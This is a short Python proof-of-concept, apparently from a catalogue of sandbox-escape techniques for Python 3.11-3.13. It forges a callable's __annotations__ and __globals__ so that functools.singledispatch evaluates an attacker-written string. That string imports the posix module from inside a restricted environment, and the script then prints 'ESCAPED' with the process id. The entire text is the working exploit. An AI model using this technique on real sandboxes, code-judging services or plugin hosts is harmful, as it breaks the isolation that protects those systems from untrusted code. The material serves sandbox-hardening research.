# technique: what it registers is no function, but has __annotations__ and __globals__ of ours
# python: 3.11-3.13
# goal: import
# source: own analysis: eval in trusted code
import functools
found = []


class Fake:
    __name__ = 'fake'

    def __call__(self, x):
        pass


fake = Fake()
fake.__annotations__ = {'x': '(found.append(__import__("posix").getpid()), int)[1]'}
fake.__globals__ = {'found': found}
functools.singledispatch(lambda x: 0).register(fake)
print('ESCAPED pid=%d' % found[0])
